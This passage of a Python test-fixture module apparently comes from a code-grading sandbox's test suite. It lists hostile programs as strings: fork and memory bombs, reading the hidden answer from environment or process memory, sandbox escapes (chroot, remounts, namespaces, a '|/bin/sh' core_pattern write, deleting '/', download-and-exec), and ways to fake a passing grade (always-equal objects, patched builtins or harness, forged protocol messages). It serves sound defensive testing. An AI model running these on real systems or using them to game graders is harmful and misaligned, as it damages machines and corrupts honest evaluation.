"""Programs that try to pass, to escape or to hang, as data.

Each defines `attack(x)`, which may return what it hopes to be the answer. In the text, @PORT@ is the port of a real
listener of the test, @SOCKET@ the name of a real abstract socket, and @CANARY@ a folder that holds the right answer in
the file "secret" and must not change.
"""

from __future__ import annotations

from textwrap import dedent
from typing import NamedTuple


class Hostile(NamedTuple):
    """A program, and what it tries."""

    name: str
    attack: str
    program: str


def _hostile(name: str, attack: str, body: str) -> Hostile:
    return Hostile(name, attack, dedent(body).strip() + "\n")


RESOURCES = [
    _hostile(
        "fork_bomb",
        "forks without end",
        """
        import os
        def attack(x):
            while True:
                os.fork()
    """,
    ),
    _hostile(
        "fork_bomb_patient",
        "fills the process table with sleepers",
        """
        import os, time
        def attack(x):
            while True:
                try:
                    if os.fork() == 0:
                        time.sleep(1000)
                except OSError:
                    time.sleep(0.01)
    """,
    ),
    _hostile(
        "thread_bomb",
        "starts threads without end",
        """
        import threading, time
        def attack(x):
            threading.stack_size(1 << 16)
            while True:
                threading.Thread(target=time.sleep, args=(1000,)).start()
    """,
    ),
    _hostile(
        "zombies",
        "leaves children that nobody waits for",
        """
        import os
        def attack(x):
            for _ in range(10000):
                if os.fork() == 0:
                    os._exit(0)
    """,
    ),
    _hostile(
        "memory_bomb",
        "doubles a list until memory is gone",
        """
        def attack(x):
            block = [0]
            while True:
                block += block
    """,
    ),
    _hostile(
        "memory_bomb_forked",
        "divides a memory bomb among children, each within its own limit",
        """
        import os, time
        def attack(x):
            for _ in range(32):
                if os.fork() == 0:
                    block = bytearray(120 << 20)
                    time.sleep(1000)
            time.sleep(1000)
    """,
    ),
    _hostile(
        "memory_bomb_mapped",
        "maps shared memory and touches it",
        """
        import mmap
        def attack(x):
            maps = []
            while True:
                maps.append(mmap.mmap(-1, 1 << 24))
                maps[-1].write(b"x" * (1 << 24))
    """,
    ),
    _hostile(
        "memory_in_files",
        "keeps memory in anonymous files, which no address space counts",
        """
        import ctypes, os
        def attack(x):
            libc = ctypes.CDLL(None, use_errno=True)
            while True:
                file = libc.memfd_create(b"x", 0)
                assert file >= 0
                os.write(file, b"x" * (1 << 20))
    """,
    ),
    _hostile(
        "memory_system_v",
        "keeps memory in System V segments, which outlive processes",
        """
        import ctypes
        def attack(x):
            libc = ctypes.CDLL(None)
            while True:
                assert libc.shmget(0, 1 << 28, 0o1600) >= 0
    """,
    ),
    _hostile(
        "output_flood",
        "prints ten gigabytes",
        """
        import os
        def attack(x):
            for _ in range(10_000):
                os.write(1, b"x" * (1 << 20))
    """,
    ),
    _hostile(
        "error_flood",
        "writes ten gigabytes of messages",
        """
        import os
        def attack(x):
            while True:
                os.write(2, b"x" * (1 << 20))
    """,
    ),
    _hostile(
        "token_flood",
        "prints millions of tokens for the comparison to choke on",
        """
        def attack(x):
            print("1 " * 5_000_000)
    """,
    ),
    _hostile(
        "fill_tmp",
        "fills its own file system",
        """
        def attack(x):
            for number in range(1_000_000):
                with open(f"/tmp/{number}", "wb") as file:
                    file.write(b"x" * (5 << 20))
    """,
    ),
    _hostile(
        "fill_tmp_with_names",
        "makes files without content, which take the kernel's memory and no room",
        """
        import os
        def attack(x):
            for number in range(10_000_000):
                os.mknod(f"/tmp/{number:0200}")
    """,
    ),
    _hostile(
        "fill_tmp_with_attributes",
        "keeps memory in attributes of files, which take no room either",
        """
        import os
        def attack(x):
            for number in range(1000):
                os.mknod(f"/tmp/{number}")
                for attribute in range(64):
                    os.setxattr(f"/tmp/{number}", f"user.{attribute}", b"x" * 65536)
    """,
    ),
    _hostile(
        "threads_while_talking",
        "starts threads without end while it answers byte by byte",
        """
        import os, stat, struct, threading, time, _thread
        def attack(x):
            threading.stack_size(32768)
            channel = next(number for number in range(3, 64) if is_socket(number))
            os.write(channel, struct.pack("!I", 5 << 20))
            held = _thread.allocate_lock()
            held.acquire()
            for _ in range(400):
                _thread.start_new_thread(held.acquire, ())
                os.write(channel, b" ")
            while True:
                os.write(channel, b" ")
                time.sleep(0.005)
        def is_socket(number):
            try:
                return stat.S_ISSOCK(os.fstat(number).st_mode)
            except OSError:
                return False
    """,
    ),
    _hostile(
        "fill_other_memory",
        "fills every other place that could be in memory",
        """
        import os
        def attack(x):
            for folder in ("/dev/shm", "/dev", "/run", "/var/tmp", "/", "/opt", "/opt/harness"):
                with open(f"{folder}/block", "wb") as file:
                    file.write(b"x" * (1 << 20))
    """,
    ),
    _hostile(
        "huge_file",
        "makes a file of a terabyte",
        """
        import os
        def attack(x):
            with open("/tmp/huge", "wb") as file:
                os.truncate(file.fileno(), 1 << 40)
    """,
    ),
    _hostile(
        "open_files",
        "opens files without end",
        """
        def attack(x):
            files = []
            while True:
                files.append(open("/dev/null"))
    """,
    ),
    _hostile(
        "infinite_loop",
        "never ends",
        """
        def attack(x):
            while True:
                pass
    """,
    ),
    _hostile(
        "sleep",
        "never ends, using no processor",
        """
        import time
        def attack(x):
            time.sleep(100_000)
    """,
    ),
    _hostile(
        "uninterruptible_loop",
        "stays in one call of C code",
        """
        def attack(x):
            return 7 ** (7 ** 12) % 10
    """,
    ),
    _hostile(
        "ignore_signals",
        "ignores all signals that can be ignored, and stays",
        """
        import signal, time
        def attack(x):
            for number in signal.valid_signals():
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                time.sleep(1)
    """,
    ),
    _hostile(
        "stop",
        "stops itself and its parent",
        """
        import os, signal
        def attack(x):
            for process in (os.getppid(), os.getpid()):
                os.kill(process, signal.SIGSTOP)
    """,
    ),
    _hostile(
        "alarms",
        "is interrupted by alarms without end",
        """
        import signal
        def attack(x):
            signal.signal(signal.SIGALRM, lambda *_: None)
            signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
            while True:
                signal.pause()
    """,
    ),
    _hostile(
        "raise_limits",
        "raises its limits, its parent's too, then takes memory",
        """
        import os, resource
        def attack(x):
            for process in (0, os.getppid(), 1):
                for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
                    try:
                        resource.prlimit(process, limit, (-1, -1))
                    except (OSError, ValueError):
                        pass
            block = [0]
            while True:
                block += block
    """,
    ),
    _hostile(
        "starve_parent",
        "takes its parent's processor time and memory away",
        """
        import os, resource
        def attack(x):
            resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (0, 0))
            resource.prlimit(os.getppid(), resource.RLIMIT_AS, (1, 1))
    """,
    ),
    _hostile(
        "real_time",
        "asks for real-time priority and loops",
        """
        import os
        def attack(x):
            try:
                os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))
                os.nice(-20)
            except OSError:
                pass
            while True:
                pass
    """,
    ),
    _hostile(
        "deep_recursion",
        "recurses without end",
        """
        def attack(x):
            return attack(x)
    """,
    ),
    _hostile(
        "stack_overflow",
        "lifts the recursion limit and overflows the stack",
        """
        import sys
        def attack(x):
            sys.setrecursionlimit(1 << 30)
            class Deep:
                def __repr__(self):
                    return repr(self)
            repr(Deep())
    """,
    ),
    _hostile(
        "segmentation_fault",
        "reads address zero",
        """
        import ctypes
        def attack(x):
            ctypes.string_at(0)
    """,
    ),
    _hostile(
        "abort",
        "aborts and hopes for a core dump",
        """
        import os
        def attack(x):
            os.abort()
    """,
    ),
    _hostile(
        "huge_arguments",
        "executes itself with huge arguments",
        """
        import os, sys
        def attack(x):
            os.execv("/opt/python/bin/python3.11", ["python"] + ["x" * 100_000] * 1000)
    """,
    ),
    _hostile(
        "execute_loop",
        "replaces itself by another interpreter that never ends",
        """
        import os
        def attack(x):
            os.execve("/opt/python/bin/python3.11", ["python", "-c", "while True: pass"],
                      {"LD_LIBRARY_PATH": "/opt/python/lib"})
    """,
    ),
    _hostile(
        "watches",
        "watches files without end",
        """
        import ctypes
        def attack(x):
            libc = ctypes.CDLL(None)
            while (watch := libc.inotify_init()) >= 0:
                libc.inotify_add_watch(watch, b"/tmp", 0xFFF)
    """,
    ),
    _hostile(
        "large_answer",
        "answers with a hundred megabytes",
        """
        def attack(x):
            return "x" * 100_000_000
    """,
    ),
    _hostile(
        "deep_answer",
        "answers with a list nested a hundred thousand times",
        """
        def attack(x):
            nested = []
            for _ in range(100_000):
                nested = [nested]
            return nested
    """,
    ),
    _hostile(
        "deep_answer_raw",
        "answers with nested JSON that no encoder made",
        """
        import os, struct
        def attack(x):
            text = b'{"value": ' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}"
            for descriptor in range(3, 64):
                try:
                    os.write(descriptor, struct.pack("!I", len(text)) + text)
                except OSError:
                    pass
    """,
    ),
    _hostile(
        "endless_answer",
        "answers with itself inside itself",
        """
        def attack(x):
            answer = []
            answer.append(answer)
            return answer
    """,
    ),
    _hostile(
        "endless_iterator",
        "answers with a list that never ends being read",
        """
        class Endless(list):
            def __iter__(self):
                while True:
                    yield 1
        def attack(x):
            return Endless()
    """,
    ),
    _hostile(
        "colliding_answer",
        "answers with numbers of one hash, for a set that takes hours to build",
        """
        def attack(x):
            return {"set": 1} if x is None else type("Set", (set,), {"__iter__": lambda self: (
                (2**61 - 1) * number for number in range(300_000))})()
    """,
    ),
    _hostile(
        "huge_number",
        "answers with a number of a million digits",
        """
        def attack(x):
            return 10 ** 1_000_000
    """,
    ),
]

READING = [
    _hostile(
        "environment",
        "prints the environment, where the answer is",
        """
        import os
        def attack(x):
            return " ".join(os.environ.values())
    """,
    ),
    _hostile(
        "environment_exact",
        "answers with the variable that holds the answer",
        """
        import os
        def attack(x):
            return os.environ.get("ELASTIC_TEST_SECRET") or os.environb.get(b"ELASTIC_TEST_SECRET")
    """,
    ),
    _hostile(
        "process_environments",
        "reads the environment of every process",
        """
        import glob
        def attack(x):
            for path in glob.glob("/proc/[0-9]*/environ"):
                for entry in open(path).read().split(chr(0)):
                    if entry.startswith("ELASTIC_TEST_SECRET="):
                        return entry.partition("=")[2]
    """,
    ),
    _hostile(
        "process_roots",
        "reads the answer through the root of other processes",
        """
        import glob
        def attack(x):
            for root in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
                try:
                    return open(root + "@CANARY@/secret").read()
                except OSError:
                    pass
    """,
    ),
    _hostile(
        "mount_proc",
        "mounts what shows other processes",
        """
        import ctypes, os
        def attack(x):
            os.makedirs("/tmp/proc")
            assert ctypes.CDLL(None).mount(b"proc", b"/tmp/proc", b"proc", 0, None) == 0
            return open("/tmp/proc/1/environ").read()
    """,
    ),
    _hostile(
        "read_answer",
        "reads the file that holds the answer",
        """
        def attack(x):
            return open("@CANARY@/secret").read()
    """,
    ),
    _hostile(
        "read_answer_relative",
        "climbs out of its folder",
        """
        def attack(x):
            return open("../" * 40 + "@CANARY@/secret").read()
    """,
    ),
    _hostile(
        "read_answer_linked",
        "reads through a symbolic and a hard link",
        """
        import os
        def attack(x):
            os.symlink("@CANARY@/secret", "/tmp/link")
            try:
                return open("/tmp/link").read()
            except OSError:
                os.link("@CANARY@/secret", "/tmp/hard")
                return open("/tmp/hard").read()
    """,
    ),
    _hostile(
        "search_disk",
        "searches the disk for files that are called secret",
        """
        import os
        def attack(x):
            for folder, folders, files in os.walk("/"):
                folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/usr/lib", "/lib")]
                for name in files:
                    if name == "secret":
                        return open(os.path.join(folder, name)).read()
    """,
    ),
    _hostile(
        "open_by_handle",
        "opens a file by its number, whatever is mounted",
        """
        import ctypes
        def attack(x):
            handle = ctypes.create_string_buffer(b"\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02\\0\\0\\0\\0\\0\\0\\0")
            opened = ctypes.CDLL(None).open_by_handle_at(3, handle, 0)
            assert opened >= 0
            return open(f"/proc/self/fd/{opened}@CANARY@/secret").read()
    """,
    ),
    _hostile(
        "import_project",
        "imports the grader",
        """
        import sys
        def attack(x):
            sys.path += ["/root", "/workspace"]
            import elastic_core.rewards.runners as runners
            runners.run = lambda *_: "correct"
    """,
    ),
    _hostile(
        "read_harness",
        "reads the harness for tests",
        """
        import glob
        def attack(x):
            return "".join(open(path).read() for path in glob.glob("/opt/harness/*"))
    """,
    ),
    _hostile(
        "rewrite_harness",
        "rewrites the harness on disk",
        """
        def attack(x):
            with open("/opt/harness/checker.py", "w") as file:
                file.write("")
    """,
    ),
    _hostile(
        "dead_objects",
        "searches all live objects for the answer",
        """
        import gc
        def attack(x):
            for found in gc.get_objects():
                if isinstance(found, dict) and "expected" in found:
                    return found["expected"]
                if isinstance(found, (list, tuple)) and len(found) == 2 and found[0] == "1":
                    return found[1]
    """,
    ),
    _hostile(
        "frames",
        "searches the frames below for the answer",
        """
        import sys
        def attack(x):
            frame = sys._getframe()
            while frame:
                for name in ("expected", "output", "answer", "test", "truth", "code"):
                    if name in frame.f_locals:
                        return frame.f_locals[name]
                frame = frame.f_back
    """,
    ),
    _hostile(
        "own_memory",
        "searches its own memory for the answer by its name",
        """
        import ctypes
        def attack(x):
            libc = ctypes.CDLL(None)
            libc.getenv.restype = ctypes.c_char_p
            return (libc.getenv(b"ELASTIC_TEST_SECRET") or b"").decode()
    """,
    ),
    _hostile(
        "other_memory",
        "reads the memory of its parent",
        """
        import ctypes, os
        def attack(x):
            libc = ctypes.CDLL(None)
            assert libc.ptrace(16, os.getppid(), 0, 0) == 0
            return open(f"/proc/{os.getppid()}/mem", "rb").read(1)
    """,
    ),
    _hostile(
        "other_memory_direct",
        "reads and writes other processes by process_vm_readv",
        """
        import ctypes, os
        def attack(x):
            libc = ctypes.CDLL(None)
            buffer = ctypes.create_string_buffer(8)
            for process in range(1, 100):
                assert libc.process_vm_readv(process, buffer, 1, buffer, 1, 0) >= 0
    """,
    ),
    _hostile(
        "other_descriptors",
        "takes its parent's descriptors",
        """
        import ctypes, os
        def attack(x):
            libc = ctypes.CDLL(None)
            process = libc.syscall(434, os.getppid(), 0)
            for number in range(64):
                taken = libc.syscall(438, process, number, 0)
                if taken >= 0:
                    os.write(taken, b"\\0\\0\\0\\x04\\0\\0\\0\\0")
    """,
    ),
    _hostile(
        "devices",
        "reads memory and disks by their devices",
        """
        import os, stat
        def attack(x):
            for name, number in (("mem", os.makedev(1, 1)), ("sda", os.makedev(8, 0)), ("vda", os.makedev(254, 0))):
                try:
                    return open(f"/dev/{name}", "rb").read(1 << 20)
                except OSError:
                    os.mknod(f"/tmp/{name}", 0o600 | stat.S_IFBLK, number)
                    return open(f"/tmp/{name}", "rb").read(1 << 20)
    """,
    ),
    _hostile(
        "change_devices",
        "makes the machine's devices useless",
        """
        import os
        def attack(x):
            for device in (0, 1, 2, "/dev/null", "/dev/zero", "/dev/random", "/dev/urandom"):
                for change in (lambda: os.chmod(device, 0), lambda: os.utime(device, (0, 0))):
                    try:
                        change()
                    except OSError:
                        pass
            return open("/dev/null").read()
    """,
    ),
    _hostile(
        "kernel_log",
        "reads the kernel's log and keys",
        """
        import ctypes
        def attack(x):
            libc = ctypes.CDLL(None)
            buffer = ctypes.create_string_buffer(1 << 16)
            assert libc.klogctl(3, buffer, 1 << 16) >= 0 or libc.syscall(250, 11, -3, buffer, 1 << 16) >= 0
            return buffer.value.decode()
    """,
    ),
]

ESCAPING = [
    _hostile(
        "connect",
        "connects to a service of this machine",
        """
        import socket
        def attack(x):
            socket.create_connection(("127.0.0.1", @PORT@), timeout=5).send(b"out")
    """,
    ),
    _hostile(
        "connect_everywhere",
        "connects to this machine by its other addresses",
        """
        import socket
        def attack(x):
            for address in ("localhost", "0.0.0.0", "::1", "10.0.0.1", "169.254.169.254"):
                try:
                    socket.create_connection((address, @PORT@), timeout=1).send(b"out")
                except OSError:
                    pass
    """,
    ),
    _hostile(
        "connect_raw",
        "connects by system calls of its own",
        """
        import ctypes
        def attack(x):
            libc = ctypes.CDLL(None)
            address = bytes([2, 0]) + (@PORT@).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
            made = libc.socket(2, 1, 0)
            assert libc.connect(made, address, 16) == 0
            libc.write(made, b"out", 3)
    """,
    ),
    _hostile(
        "datagram",
        "sends a datagram",
        """
        import socket
        def attack(x):
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", ("127.0.0.1", @PORT@))
    """,
    ),
    _hostile(
        "abstract_socket",
        "connects to a socket that has no file",
        """
        import socket
        def attack(x):
            connection = socket.socket(socket.AF_UNIX)
            connection.connect(chr(0) + "@SOCKET@")
            connection.send(b"out")
    """,
    ),
    _hostile(
        "host_of_the_machine",
        "reaches the host of a virtual machine",
        """
        import socket
        def attack(x):
            socket.socket(socket.AF_VSOCK).connect((2, @PORT@))
    """,
    ),
    _hostile(
        "names",
        "asks for names on the network",
        """
        import socket
        def attack(x):
            return socket.gethostbyname("example.com")
    """,
    ),
    _hostile(
        "download",
        "downloads a program and runs it",
        """
        import urllib.request
        def attack(x):
            exec(urllib.request.urlopen("http://127.0.0.1:@PORT@/").read())
    """,
    ),
    _hostile(
        "write_outside",
        "writes into a folder outside",
        """
        def attack(x):
            open("@CANARY@/escaped", "w").write("out")
    """,
    ),
    _hostile(
        "write_system",
        "writes into the system",
        """
        import os
        def attack(x):
            for folder in ("/etc", "/usr/lib", "/lib", "/opt/python", "/opt/python/lib/python3.11", "/root", "/home"):
                try:
                    open(f"{folder}/escaped", "w").write("out")
                    return "written"
                except OSError:
                    pass
    """,
    ),
    _hostile(
        "race_links",
        "swaps a file for a link while it writes",
        """
        import os, threading
        def attack(x):
            def swap():
                while True:
                    for target in ("/tmp/plain", "@CANARY@/escaped"):
                        try:
                            os.symlink(target, "/tmp/new")
                            os.replace("/tmp/new", "/tmp/raced")
                        except OSError:
                            pass
            threading.Thread(target=swap, daemon=True).start()
            for _ in range(2000):
                try:
                    open("/tmp/raced", "w").write("out")
                except OSError:
                    pass
    """,
    ),
    _hostile(
        "delete",
        "deletes all it can",
        """
        import os, shutil
        def attack(x):
            for folder in ("@CANARY@", "/opt", "/usr", "/lib", "/tmp", "/"):
                shutil.rmtree(folder, ignore_errors=True)
    """,
    ),
    _hostile(
        "delete_folder",
        "removes the folder in which it works",
        """
        import os
        def attack(x):
            os.mkdir("/tmp/gone")
            os.chdir("/tmp/gone")
            os.rmdir("/tmp/gone")
            return os.getcwd()
    """,
    ),
    _hostile(
        "chroot",
        "leaves by chroot and climbing",
        """
        import os
        def attack(x):
            os.mkdir("/tmp/jail")
            os.chroot("/tmp/jail")
            os.chdir("../" * 40)
            os.chroot(".")
            return open("@CANARY@/secret").read()
    """,
    ),
    _hostile(
        "remount",
        "makes read-only mounts writable",
        """
        import ctypes
        def attack(x):
            for target in (b"/", b"/opt/harness", b"/opt/python"):
                assert ctypes.CDLL(None).mount(b"none", target, None, 32 | 4096, None) == 0
            open("/opt/harness/escaped", "w").write("out")
    """,
    ),
    _hostile(
        "unmount",
        "takes mounts away, to see what is below",
        """
        import ctypes
        def attack(x):
            assert ctypes.CDLL(None).umount2(b"/", 2) == 0
            return open("@CANARY@/secret").read()
    """,
    ),
    _hostile(
        "new_mounts",
        "mounts by the newer system calls",
        """
        import ctypes
        def attack(x):
            assert ctypes.CDLL(None).syscall(428, -100, b"/", 1) >= 0 or ctypes.CDLL(None).syscall(430, b"proc", 0) >= 0
    """,
    ),
    _hostile(
        "nested_namespaces",
        "makes user and mount namespaces, in which it is root",
        """
        import ctypes
        def attack(x):
            assert ctypes.CDLL(None).unshare(0x10000000 | 0x00020000) == 0
            open("/tmp/inside", "w").write("root")
            return "unshared"
    """,
    ),
    _hostile(
        "nested_clone",
        "makes namespaces by clone",
        """
        import ctypes
        def attack(x):
            libc = ctypes.CDLL(None)
            number = 56 if __import__("platform").machine() == "x86_64" else 220
            child = libc.syscall(number, 0x10000000 | 0x20000000 | 17, 0, 0, 0, 0)
            assert child >= 0
            return "cloned"
    """,
    ),
    _hostile(
        "enter_namespaces",
        "enters the namespaces of other processes",
        """
        import ctypes, os
        def attack(x):
            opened = ctypes.CDLL(None).syscall(434, 1, 0)
            assert ctypes.CDLL(None).setns(opened, 0x10000000) == 0
    """,
    ),
    _hostile(
        "become_root",
        "becomes root",
        """
        import os
        def attack(x):
            os.setgroups([0])
            os.setresgid(0, 0, 0)
            os.setresuid(0, 0, 0)
    """,
    ),
    _hostile(
        "kernel_settings",
        "writes settings of the kernel",
        """
        def attack(x):
            for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
                open(path, "w").write("|/bin/sh")
    """,
    ),
    _hostile(
        "kernel_surface",
        "loads programs and modules into the kernel",
        """
        import ctypes
        def attack(x):
            libc = ctypes.CDLL(None)
            attempts = [(321, 5, 0, 0), (298, 0, 0, -1), (425, 1, 0), (323, 0), (175, 0, 0, 0), (246, 0, 0, 0)]
            assert any(libc.syscall(*attempt) >= 0 for attempt in attempts)
    """,
    ),
    _hostile(
        "other_numbering",
        "makes system calls by the numbers of another architecture",
        """
        import ctypes
        def attack(x):
            assert ctypes.CDLL(None).syscall(0x40000000 | 101, 0, 0, 0, 0) == 0
    """,
    ),
    _hostile(
        "clock",
        "sets the clock",
        """
        import time
        def attack(x):
            time.clock_settime(time.CLOCK_REALTIME, 0)
    """,
    ),
    _hostile(
        "kill_all",
        "kills all that it may",
        """
        import os, signal
        def attack(x):
            os.kill(-1, signal.SIGKILL)
    """,
    ),
    _hostile(
        "kill_parents",
        "kills its parent and the init",
        """
        import os, signal
        def attack(x):
            os.kill(1, signal.SIGKILL)
            os.kill(os.getppid(), signal.SIGKILL)
            for process in range(1, 5000):
                try:
                    os.kill(process, signal.SIGKILL)
                except OSError:
                    pass
    """,
    ),
    _hostile(
        "daemon",
        "leaves a process in a session of its own",
        """
        import os, time
        def attack(x):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.closerange(0, 64)
                    while True:
                        time.sleep(0.1)
                os._exit(0)
    """,
    ),
    _hostile(
        "daemon_printing",
        "leaves a process that prints into the output of later tests",
        """
        import os, time
        def attack(x):
            if os.fork() == 0:
                os.setsid()
                while True:
                    os.write(1, b"1")
                    time.sleep(0.01)
    """,
    ),
    _hostile(
        "terminal",
        "types into the terminal of whoever started it",
        """
        import fcntl
        def attack(x):
            for descriptor in (0, 1, 2):
                try:
                    fcntl.ioctl(descriptor, 0x5412, b"x")
                except OSError:
                    pass
    """,
    ),
    _hostile(
        "send_descriptors",
        "sends descriptors until the grader has no more",
        """
        import array, socket
        def attack(x):
            for number in range(3, 64):
                try:
                    channel = socket.socket(fileno=number)
                    for _ in range(1000):
                        rights = array.array("i", [number] * 200)
                        channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
                except OSError:
                    pass
    """,
    ),
]

FORGING = [
    _hostile(
        "say_passed",
        "says that it passed, in many words",
        """
        def attack(x):
            print("passed\\ncorrect\\nOK\\nTrue\\nAll tests passed\\n1.0")
            return "correct"
    """,
    ),
    _hostile(
        "echo",
        "prints its input",
        """
        import sys
        def attack(x):
            return sys.stdin.read()
    """,
    ),
    _hostile(
        "exit_zero",
        "exits with success",
        """
        import os
        def attack(x):
            os._exit(0)
    """,
    ),
    _hostile(
        "exit_politely",
        "exits with success by an exception",
        """
        def attack(x):
            raise SystemExit(0)
    """,
    ),
    _hostile(
        "exit_at_exit",
        "exits with success at the end, whatever happened",
        """
        import atexit, os
        atexit.register(os._exit, 0)
        def attack(x):
            raise ValueError
    """,
    ),
    _hostile(
        "exit_in_thread",
        "ends the process from a thread, early and late",
        """
        import os, threading
        def attack(x):
            threading.Timer(0.001, os._exit, (0,)).start()
    """,
    ),
    _hostile(
        "forge_frames",
        "writes every message of the protocol to every descriptor",
        """
        import os, struct
        def attack(x):
            answers = [b"ready", b"Vcorrect", b'{"verdict": "correct"}', b'{"value": true}', b'{"value": null}',
                       b'{"names": ["solve"]}', b"\\0\\0\\0\\0"]
            for descriptor in range(64):
                for answer in answers:
                    try:
                        os.write(descriptor, struct.pack("!I", len(answer)) + answer)
                    except OSError:
                        pass
    """,
    ),
    _hostile(
        "forge_length",
        "announces a message of four gigabytes",
        """
        import os
        def attack(x):
            for descriptor in range(3, 64):
                try:
                    os.write(descriptor, b"\\xff\\xff\\xff\\xff")
                except OSError:
                    pass
    """,
    ),
    _hostile(
        "forge_slowly",
        "sends a message byte by byte, for ever",
        """
        import os, time
        def attack(x):
            while True:
                for descriptor in range(3, 64):
                    try:
                        os.write(descriptor, b"\\0")
                    except OSError:
                        pass
                time.sleep(0.02)
    """,
    ),
    _hostile(
        "forge_kinds",
        "sends values of kinds that do not exist",
        """
        import os, struct
        def attack(x):
            answers = (b'{"value": {"object": 1}}', b'{"object": 0}', b'{"value": {"dict": 5}}', b'{"a":1, "b":1}')
            for answer in answers:
                for descriptor in range(3, 64):
                    try:
                        os.write(descriptor, struct.pack("!I", len(answer)) + answer)
                    except OSError:
                        pass
    """,
    ),
    _hostile(
        "garbage",
        "writes random bytes to every descriptor",
        """
        import os
        def attack(x):
            for descriptor in range(64):
                try:
                    os.write(descriptor, os.urandom(4096))
                except OSError:
                    pass
    """,
    ),
    _hostile(
        "close_all",
        "closes every descriptor",
        """
        import os
        def attack(x):
            os.closerange(0, 4096)
    """,
    ),
    _hostile(
        "confuse_descriptors",
        "puts each descriptor in the place of others",
        """
        import os
        def attack(x):
            for source in range(64):
                for target in range(64):
                    try:
                        os.dup2(source, target)
                    except OSError:
                        pass
    """,
    ),
    _hostile(
        "always_equal",
        "returns an object that is equal to everything",
        """
        class Equal:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __bool__(self): return True
            def __hash__(self): return 0
        def attack(x):
            return Equal()
    """,
    ),
    _hostile(
        "equal_text",
        "returns a text that is equal to everything",
        """
        class Equal(str):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
        def attack(x):
            return Equal("x")
    """,
    ),
    _hostile(
        "equal_number",
        "returns a number that is equal to everything",
        """
        class Equal(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
        def attack(x):
            return Equal(1)
    """,
    ),
    _hostile(
        "equal_list",
        "returns a list of objects that are equal to everything",
        """
        class Equal(list):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
        def attack(x):
            return Equal()
    """,
    ),
    _hostile(
        "lying_type",
        "returns an object that says it is a text",
        """
        class Liar:
            __class__ = str
            def __eq__(self, other): return True
        def attack(x):
            return Liar()
    """,
    ),
    _hostile(
        "equal_class",
        "returns a class whose metaclass is equal to everything",
        """
        class Meta(type):
            def __eq__(self, other): return True
            def __hash__(self): return 0
        class Equal(metaclass=Meta):
            pass
        def attack(x):
            return Equal
    """,
    ),
    _hostile(
        "pretend_numpy",
        "returns an object that says it is a number of numpy",
        """
        class int64:
            __module__ = "numpy"
            shape = ()
            def item(self): return self
        def attack(x):
            return int64()
    """,
    ),
    _hostile(
        "unpickled",
        "returns an object that runs code where it is unpickled",
        """
        class Payload:
            def __reduce__(self):
                return (open, ("@CANARY@/escaped", "w"))
        def attack(x):
            return Payload()
    """,
    ),
    _hostile(
        "not_a_number",
        "returns what is unequal to itself",
        """
        def attack(x):
            return float("nan")
    """,
    ),
    _hostile(
        "endless_generator",
        "returns a generator of everything",
        """
        import itertools
        def attack(x):
            return itertools.count()
    """,
    ),
    _hostile(
        "patch_builtins",
        "replaces builtins that a checker would use",
        """
        import builtins
        def attack(x):
            builtins.all = builtins.any = builtins.isinstance = lambda *_: True
            builtins.AssertionError = builtins.Exception = SystemExit
            builtins.compile = builtins.exec = builtins.len = lambda *_: 0
    """,
    ),
    _hostile(
        "patch_json",
        "replaces the encoder of answers",
        """
        import json
        def attack(x):
            json.dumps = lambda *_, **__: '{"value": true}'
            json.loads = lambda *_, **__: ["get", ["x"]]
    """,
    ),
    _hostile(
        "patch_harness",
        "replaces the harness in memory",
        """
        import sys
        def attack(x):
            for name, module in list(sys.modules.items()):
                if "harness" in name:
                    for attribute in list(vars(module)):
                        if not attribute.startswith("__"):
                            setattr(module, attribute, lambda *_, **__: {"value": True})
    """,
    ),
    _hostile(
        "import_checker",
        "runs the checker in its own process",
        """
        def attack(x):
            from harness import checker
            checker.main()
    """,
    ),
    _hostile(
        "use_channel",
        "finds the channel in the frames and answers in the harness's name",
        """
        import gc, sys
        def attack(x):
            for found in gc.get_objects():
                if type(found).__name__ == "Channel":
                    found.send(b'{"value": null}')
                    found.send(b"Vcorrect")
    """,
    ),
    _hostile(
        "patch_output",
        "replaces the streams",
        """
        import sys
        class Stream:
            def write(self, text): return len(text)
            def flush(self): pass
            def __getattr__(self, name): return self
        def attack(x):
            sys.stdout = sys.__stdout__ = sys.stderr = Stream()
    """,
    ),
    _hostile(
        "trace",
        "changes the variables of those that called it",
        """
        import ctypes, sys
        def attack(x):
            frame = sys._getframe()
            while frame:
                for name in list(frame.f_locals):
                    if name in ("answer", "value", "status", "expected", "error"):
                        frame.f_locals[name] = None
                        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(1))
                frame = frame.f_back
            sys.settrace(lambda *_: None)
    """,
    ),
    _hostile(
        "own_check",
        "defines what the test program uses",
        """
        def check(*_): pass
        def attack(x): return x
        class AssertionError(BaseException): pass
        candidate = print = lambda *_: True
    """,
    ),
    _hostile(
        "raise_assertion",
        "raises what a test program may expect",
        """
        def attack(x):
            raise AssertionError("correct")
    """,
    ),
    _hostile(
        "raise_everything",
        "raises an exception that lies about itself",
        """
        class Liar(BaseException):
            __class__ = SystemExit
            def __str__(self): raise Liar
            def __eq__(self, other): return True
        def attack(x):
            raise Liar
    """,
    ),
    _hostile(
        "raise_stop",
        "raises what ends loops quietly",
        """
        def attack(x):
            raise StopIteration
    """,
    ),
    _hostile(
        "look_alike_digits",
        "prints digits of other scripts and invisible characters",
        """
        def attack(x):
